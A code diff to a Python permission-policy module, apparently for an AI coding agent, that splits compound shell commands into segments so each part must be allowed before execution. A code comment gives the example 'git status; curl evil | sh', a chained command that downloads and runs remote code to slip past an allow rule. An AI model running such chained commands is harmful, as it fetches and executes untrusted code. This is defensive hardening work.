@@ -6,6 +6,7 @@ cannot ask (no terminal) treats "ask" as "deny" and tells the model why, so it n
 """
 
 import fnmatch
+import re
 from collections.abc import Mapping
 from enum import StrEnum
 from typing import Literal
@@ -49,6 +50,14 @@ _MODE_DEFAULTS: dict[AccessMode, dict[str, Action]] = {
 }
 
 
+_COMMAND_SEPARATORS = re.compile(r"\|\||&&|[;|&\n()`]|\$\(")
+
+
+def command_segments(command: str) -> list[str]:
+    """The simple commands inside a shell command line (split on ; && || | & newlines and substitutions)."""
+    return [part.strip() for part in _COMMAND_SEPARATORS.split(command) if part.strip()]
+
+
 class PermissionPolicy:
     """Decides allow/deny/ask for a request; remembers "always" answers for the session."""
 
@@ -57,13 +66,28 @@ class PermissionPolicy:
         self.rules = {tool: list(patterns.items()) for tool, patterns in (rules or {}).items()}
         self._always: set[tuple[str, str]] = set()
 
-    def decide(self, request: PermissionRequest) -> Action:
+    def _rule(self, request: PermissionRequest, subject: str) -> Action | None:
+        """The last matching rule for the tool's kind or name (e.g. `external_directory`, `bash`)."""
         decision: Action | None = None
-        # Rules for the tool by name, and for the kind (e.g. `external_directory`), both considered; last match wins.
         for key in (request.kind, request.tool):
             for pattern, action in self.rules.get(key, []):
-                if fnmatch.fnmatchcase(request.subject, pattern):
+                if fnmatch.fnmatchcase(subject, pattern):
                     decision = action
+        return decision
+
+    def decide(self, request: PermissionRequest) -> Action:
+        if request.kind == "execute":
+            # A rule allowing "git status*" must not allow "git status; curl evil | sh": every part of a
+            # compound command must be allowed, and any denied part denies the whole.
+            parts = command_segments(request.subject) or [request.subject]
+            decisions = [self._rule(request, part) for part in parts]
+            if "deny" in decisions or self._rule(request, request.subject) == "deny":
+                return "deny"
+            if all(d == "allow" for d in decisions):
+                return "allow"
+            decision: Action | None = "ask" if "ask" in decisions else None
+        else:
+            decision = self._rule(request, request.subject)
         if decision is not None:
             return decision
         if (request.tool, request.subject) in self._always or (request.tool, "*") in self._always:
